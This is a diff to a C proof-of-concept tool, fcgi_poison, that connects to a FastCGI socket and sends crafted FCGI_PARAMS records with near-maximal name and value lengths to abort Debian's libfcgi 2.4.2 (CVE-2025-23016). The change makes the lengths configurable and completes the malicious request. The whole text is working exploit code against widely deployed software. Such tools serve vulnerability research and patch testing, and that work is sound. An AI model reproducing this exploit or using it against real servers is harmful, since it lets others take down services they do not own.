@@ -1,4 +1,4 @@
-/* Sends the FastCGI record that aborts Debian's libfcgi 2.4.2 (CVE-2025-23016). */
+/* Sends the FastCGI records that abort Debian's libfcgi 2.4.2 (CVE-2025-23016 and kin). */
 #include <arpa/inet.h>
 #include <errno.h>
 #include <netdb.h>
@@ -62,9 +62,16 @@ main(int argc, char **argv)
 	struct pollfd	 pfd;
 	int		 fd, rounds;
 
-	if (argc != 2) {
-		fprintf(stderr, "usage: fcgi_poison unix:/path | tcp:host:port\n");
+	unsigned long	 nlen = 0x7ffffffe, vlen = 0x7ffffffe;
+
+	if (argc != 2 && argc != 4) {
+		fprintf(stderr, "usage: fcgi_poison unix:/path | tcp:host:port "
+		    "[NAMELEN VALUELEN]\n");
 		return 2;
+	}
+	if (argc == 4) {
+		nlen = strtoul(argv[2], NULL, 0) & 0x7fffffff;
+		vlen = strtoul(argv[3], NULL, 0) & 0x7fffffff;
 	}
 	fd = poison_connect(argv[1]);
 	if (fd < 0) {
@@ -77,10 +84,15 @@ main(int argc, char **argv)
 	    0, 1, 0, 0, 0, 0, 0, 0 };
 	memcpy(msg, begin, sizeof(begin));
 	n = sizeof(begin);
-	/* FCGI_PARAMS with name and value lengths 0x7ffffffe (4-byte form). */
-	static const unsigned char	 params[8 + 16] = { 1, 4, 0, 1, 0, 16, 0, 0,
-	    0xff, 0xff, 0xff, 0xfe, 0xff, 0xff, 0xff, 0xfe,
-	    'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A' };
+	/* FCGI_PARAMS with the name and value lengths (4-byte form), then
+	 * the end of params and an empty stdin: a whole request. */
+	unsigned char	 params[8 + 16 + 16] = { 1, 4, 0, 1, 0, 16, 0, 0,
+	    (unsigned char)(0x80 | nlen >> 24), (unsigned char)(nlen >> 16),
+	    (unsigned char)(nlen >> 8), (unsigned char)nlen,
+	    (unsigned char)(0x80 | vlen >> 24), (unsigned char)(vlen >> 16),
+	    (unsigned char)(vlen >> 8), (unsigned char)vlen,
+	    'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A',
+	    1, 4, 0, 1, 0, 0, 0, 0, 1, 5, 0, 1, 0, 0, 0, 0 };
 	memcpy(msg + n, params, sizeof(params));
 	n += sizeof(params);
 	if (write(fd, msg, n) != (ssize_t)n) {
